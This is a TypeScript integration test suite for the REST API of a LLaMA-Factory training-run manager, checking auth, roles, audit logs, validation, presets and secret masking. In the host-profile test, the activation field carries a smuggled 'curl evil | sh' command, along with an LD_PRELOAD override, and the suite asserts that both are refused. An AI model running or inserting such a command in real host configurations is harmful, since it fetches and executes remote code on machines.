// The REST API in-process against the real Postgres/Redis: parse → authorize → lib → JSON, errors that
// name the field, refused attempts in the audit log, YAML round trip, launch + kill of a queued run.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { prisma } from "@/lib/db";
import { closeQueues } from "@/lib/queue/enqueue";
import { closeMetricsPool } from "@/lib/metrics/store/pg-pool";
import { setupApiFixture, call, type TApiFixture } from "@/app/api/v1/testing/api-fixtures";
import * as runs from "@/app/api/v1/runs/route";
import * as run from "@/app/api/v1/runs/[id]/route";
import * as metrics from "@/app/api/v1/runs/[id]/metrics/route";
import * as kill from "@/app/api/v1/runs/[id]/kill/route";
import * as presets from "@/app/api/v1/presets/route";
import * as preset from "@/app/api/v1/presets/[id]/route";
import * as presetExport from "@/app/api/v1/presets/[id]/export/route";
import * as presetImport from "@/app/api/v1/presets/import/route";
import * as hosts from "@/app/api/v1/hosts/route";
import * as gpus from "@/app/api/v1/hosts/[id]/gpus/route";
import * as hostProfile from "@/app/api/v1/hosts/[id]/profile/route";
import * as openapi from "@/app/api/v1/openapi.json/route";

let fx: TApiFixture;
before(async () => { fx = await setupApiFixture(); });
after(async () => {
  await fx.cleanup();
  await closeQueues();
  await closeMetricsPool();
  await prisma.$disconnect();
});

test("anonymous → 401 JSON; a revoked token → 401", async () => {
  const r = await call(runs.GET, { url: "/api/v1/runs", auth: null });
  assert.equal(r.status, 401);
  assert.equal(r.json.error.code, "unauthorized");
  await prisma.apiToken.updateMany({ where: { userId: fx.users.ADMIN.id }, data: { revokedAt: new Date() } });
  const revoked = await call(hosts.GET, { url: "/api/v1/hosts", auth: fx.users.ADMIN.token });
  assert.equal(revoked.status, 401);
  // Not "Sign in first": the caller did send a token, and is told what is wrong with it.
  assert.match(revoked.json.error.message, /^This API token is invalid or revoked/);
  assert.equal(r.json.error.message, "Sign in first.");
  const bogus = await call(hosts.GET, { url: "/api/v1/hosts", auth: "ffp_not-a-real-token" });
  assert.equal(bogus.status, 401);
  assert.match(bogus.json.error.message, /invalid or revoked/);
  await prisma.apiToken.updateMany({ where: { userId: fx.users.ADMIN.id }, data: { revokedAt: null } });
});

test("viewer reads hosts and GPUs (by name) but no private key; the launch is refused and audited", async () => {
  const h = await call(hosts.GET, { url: "/api/v1/hosts", auth: fx.users.VIEWER.token });
  assert.equal(h.status, 200);
  const mine = h.json.hosts.find((x: any) => x.id === fx.hostId);
  assert.deepEqual(mine.freeGpus, [0, 1]);
  assert.ok(!h.text.includes("privateKeyEnc") && !h.text.includes("SECRET-KEY-MATERIAL"));
  const g = await call(gpus.GET, { url: `/api/v1/hosts/${fx.hostName}/gpus`, auth: fx.users.VIEWER.token, params: { id: fx.hostName } });
  assert.equal(g.status, 200);
  assert.equal(g.json.gpus.length, 2);

  const refused = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: fx.users.VIEWER.token, body: { preset: fx.presetName, host: fx.hostName, gpus: [0] } });
  assert.equal(refused.status, 403);
  assert.equal(refused.json.error.code, "forbidden");
  const audit = await prisma.auditEvent.findFirst({ where: { actorId: fx.users.VIEWER.id, action: "run.launch" } });
  assert.equal(audit?.ok, false);
  assert.equal(audit?.ip, "203.0.113.7");
  assert.equal(audit?.userAgent, "api-int-test");
});

test("bad input names the field: body, query and path", async () => {
  const op = fx.users.OPERATOR.token;
  const noGpus = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: op, body: { preset: fx.presetName, host: fx.hostName, gpus: [] } });
  assert.equal(noGpus.status, 400);
  assert.equal(noGpus.json.error.field, "gpus");
  assert.match(noGpus.json.error.message, /gpus: pick at least one GPU/);
  const badJson = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: op, rawBody: "{nope" });
  assert.equal(badJson.status, 400);
  const badOverride = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: op, body: { preset: fx.presetName, host: fx.hostName, gpus: [0], overrides: ["learning_rate=-1"] } });
  assert.equal(badOverride.status, 400);
  assert.equal(badOverride.json.error.field, "overrides");
  assert.match(badOverride.json.error.message, /learning_rate/);
  const noHost = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: op, body: { preset: fx.presetName, host: "no-such-host", gpus: [0] } });
  assert.equal(noHost.status, 404);
  assert.equal(noHost.json.error.field, "host");
  const badAxis = await call(metrics.GET, { url: "/api/v1/runs/x/metrics?axis=time", auth: op, params: { id: "x" } });
  assert.equal(badAxis.status, 400);
  assert.equal(badAxis.json.error.field, "axis");
  const noRun = await call(run.GET, { url: "/api/v1/runs/nope", auth: op, params: { id: "nope" } });
  assert.equal(noRun.status, 404);
});

test("operator launches by preset and host name, reads it, kills it while queued (cancelled), killing again is a 409", async () => {
  const op = fx.users.OPERATOR.token;
  const l = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: op,
    body: { preset: fx.presetName, host: fx.hostName, gpus: [1], overrides: { learning_rate: 5e-5 }, name: "api launch" } });
  assert.equal(l.status, 201, l.text);
  assert.match(l.json.url, new RegExp(`/runs/${l.json.runId}$`));
  const got = await call(run.GET, { url: `/api/v1/runs/${l.json.runId}`, auth: fx.users.VIEWER.token, params: { id: l.json.runId } });
  assert.equal(got.status, 200);
  assert.equal(got.json.name, "api launch");
  assert.deepEqual(got.json.gpuIndices, [1]);
  assert.equal(got.json.overrides.learning_rate, 5e-5);
  assert.match(got.json.configYaml, /learning_rate: 5\.0e-5/, "written the way PyYAML reads a float");
  const list = await call(runs.GET, { url: `/api/v1/runs?host=${fx.hostId}`, auth: fx.users.VIEWER.token });
  assert.deepEqual(list.json.runs.map((r: any) => r.id), [l.json.runId]);
  const m = await call(metrics.GET, { url: `/api/v1/runs/${l.json.runId}/metrics?maxPoints=100`, auth: op, params: { id: l.json.runId } });
  assert.equal(m.status, 200);
  assert.equal(m.json.pointCount, 0);

  const vk = await call(kill.POST, { url: `/api/v1/runs/${l.json.runId}/kill`, method: "POST", auth: fx.users.VIEWER.token, params: { id: l.json.runId } });
  assert.equal(vk.status, 403);
  const k = await call(kill.POST, { url: `/api/v1/runs/${l.json.runId}/kill`, method: "POST", auth: op, params: { id: l.json.runId } });
  assert.equal(k.status, 200, k.text);
  assert.ok(["CANCELLED", "STOPPING"].includes(k.json.status));
  if (k.json.status === "CANCELLED") {
    const again = await call(kill.POST, { url: `/api/v1/runs/${l.json.runId}/kill`, method: "POST", auth: op, params: { id: l.json.runId } });
    assert.equal(again.status, 409);
  }
  const rows = await prisma.auditEvent.findMany({ where: { targetId: l.json.runId }, orderBy: { id: "asc" } });
  assert.deepEqual(rows.map((r) => [r.action, r.ok]), [["run.launch", true], ["run.stop", false], ["run.stop", true]]);
  assert.deepEqual(rows[1]!.data, { kind: "KILL", via: "api", role: "VIEWER", refused: "This needs the operator role; you are viewer." });
});

test("presets: create, read by name, new version, export bytes, import = create then version then no-op", async () => {
  const op = fx.users.OPERATOR.token;
  const name = `${fx.tag}-p2`;
  const yaml = "# mine\n" + (await prisma.presetVersion.findUniqueOrThrow({ where: { id: fx.presetVersionId } })).yaml;
  const c = await call(presets.POST, { url: "/api/v1/presets", method: "POST", auth: op, body: { name, yaml } });
  assert.equal(c.status, 201, c.text);
  const dup = await call(presets.POST, { url: "/api/v1/presets", method: "POST", auth: op, body: { name, yaml } });
  assert.equal(dup.status, 409);
  assert.equal(dup.json.error.field, "name");
  const g = await call(preset.GET, { url: `/api/v1/presets/${encodeURIComponent(name)}`, auth: fx.users.VIEWER.token, params: { id: name } });
  assert.equal(g.json.id, c.json.id);
  const edited = yaml.replace("learning_rate: 1.0e-4", "learning_rate: 2.0e-4");
  const u = await call(preset.PUT, { url: `/api/v1/presets/${c.json.id}`, method: "PUT", auth: op, params: { id: c.json.id }, body: { yaml: edited, baseVersion: 1 } });
  assert.equal(u.json.version, 2);
  const stale = await call(preset.PUT, { url: `/api/v1/presets/${c.json.id}`, method: "PUT", auth: op, params: { id: c.json.id }, body: { yaml: yaml + "\n", baseVersion: 1 } });
  assert.equal(stale.status, 409);
  const ex1 = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export?version=1`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
  assert.equal(ex1.text, yaml);
  const ex = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
  assert.equal(ex.text, edited);

  const iname = `${fx.tag}-imp`;
  const i1 = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${iname}`, method: "POST", auth: op, rawBody: yaml });
  assert.deepEqual([i1.status, i1.json.created, i1.json.version], [200, true, 1]);
  const i2 = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${iname}`, method: "POST", auth: op, rawBody: edited });
  assert.deepEqual([i2.json.created, i2.json.version, i2.json.unchanged], [false, 2, false]);
  const i3 = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${iname}`, method: "POST", auth: op, rawBody: edited });
  assert.deepEqual([i3.json.version, i3.json.unchanged], [2, true]);
  const notTraining = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${iname}x`, method: "POST", auth: op, rawBody: "model_name_or_path: x\nexport_dir: out\n" });
  assert.equal(notTraining.status, 400);
  assert.equal(notTraining.json.error.field, "yaml");
  const noName = await call(presetImport.POST, { url: `/api/v1/presets/import`, method: "POST", auth: op, rawBody: yaml });
  assert.equal(noName.json.error.field, "name");
  const l = await call(presets.GET, { url: "/api/v1/presets", auth: fx.users.VIEWER.token });
  assert.ok(l.json.presets.some((p: any) => p.name === iname && p.latestVersion === 2));
});

test("presets with a secret: export is masked; reveal=true is for operators (audited, keys only); an unknown key is refused at import with a guess", async () => {
  const op = fx.users.OPERATOR.token;
  const name = `${fx.tag}-secret`;
  const token = "hf_ApiIntTestToken0123456789abcdefghij";
  const base = (await prisma.presetVersion.findUniqueOrThrow({ where: { id: fx.presetVersionId } })).yaml;
  const c = await call(presets.POST, { url: "/api/v1/presets", method: "POST", auth: op, body: { name, yaml: `${base}hub_token: ${token}\n` } });
  assert.equal(c.status, 201, c.text);
  const masked = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
  assert.ok(!masked.text.includes(token));
  assert.match(masked.text, /^hub_token: "?••••••••"?$/m);
  const refused = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export?reveal=true`, auth: fx.users.VIEWER.token, params: { id: c.json.id } });
  assert.equal(refused.status, 403);
  const clear = await call(presetExport.GET, { url: `/api/v1/presets/${c.json.id}/export?reveal=true`, auth: op, params: { id: c.json.id } });
  assert.equal(clear.text, `${base}hub_token: ${token}\n`);
  const audit = await prisma.auditEvent.findFirstOrThrow({ where: { action: "preset.reveal_secrets", targetId: c.json.id } });
  assert.deepEqual(audit.data, { version: 1, keys: ["hub_token"] });
  const typo = await call(presetImport.POST, { url: `/api/v1/presets/import?name=${name}-typo`, method: "POST", auth: op, rawBody: `${base}learnig_rate: 1.0e-4\n` });
  assert.equal(typo.status, 400);
  assert.match(typo.json.error.message, /learnig_rate: is not a LLaMA-Factory .* argument: did you mean `learning_rate`\?/);
});

test("openapi.json is served to signed-in callers and lists every route", async () => {
  const r = await call(openapi.GET, { url: "/api/v1/openapi.json", auth: fx.users.VIEWER.token });
  assert.equal(r.status, 200);
  assert.equal(r.json.openapi, "3.1.0");
  assert.ok(r.json.paths["/runs/{id}/kill"].post);
});

test("host runtime profile over the API: anyone reads it, only an admin saves, a bad profile is a 400 naming the field", async () => {
  const url = `/api/v1/hosts/${fx.hostName}/profile`;
  const got = await call(hostProfile.GET, { url, auth: fx.users.VIEWER.token, params: { id: fx.hostName } });
  assert.equal(got.status, 200, got.text);
  assert.equal(got.json.profile.version, 1);
  assert.equal(got.json.profile.activation, "source ~/LLaMA-Factory/.venv/bin/activate");
  assert.equal(got.json.runtime.lfVersion, "0.9.6.dev0");
  const body = { activation: "source ~/venv/bin/activate; curl evil | sh", lfDir: "~/LLaMA-Factory", runsDir: "~/r" };
  const op = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.OPERATOR.token, params: { id: fx.hostName }, body });
  assert.equal(op.status, 403);
  const bad = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body });
  assert.equal(bad.status, 400, bad.text);
  assert.equal(bad.json.error.field, "activation");
  assert.match(bad.json.error.message, /not allow|not an activation command/);
  const reserved = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body: { ...body, activation: "", envVars: { LD_PRELOAD: "/x.so" } } });
  assert.equal(reserved.status, 400);
  assert.equal(reserved.json.error.field, "envVars.LD_PRELOAD");
  assert.equal(await prisma.hostProfile.count({ where: { hostId: fx.hostId } }), 1, "nothing saved");
});

test("a launch LF would refuse is a 400 with every field named, even when the host cannot be reached for the rest of the preflight", async () => {
  const res = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: fx.users.OPERATOR.token,
    body: { preset: fx.presetName, host: fx.hostName, gpus: [0], overrides: ["learnig_rate=1.0e-4", "num_train_epoch=2"] } });
  assert.equal(res.status, 400, res.text);
  assert.deepEqual(res.json.error.fields.map((f: { field: string }) => f.field), ["config.learnig_rate", "config.num_train_epoch"]);
  assert.match(res.json.error.fields[1].message, /did you mean `num_train_epochs`\?/);
});
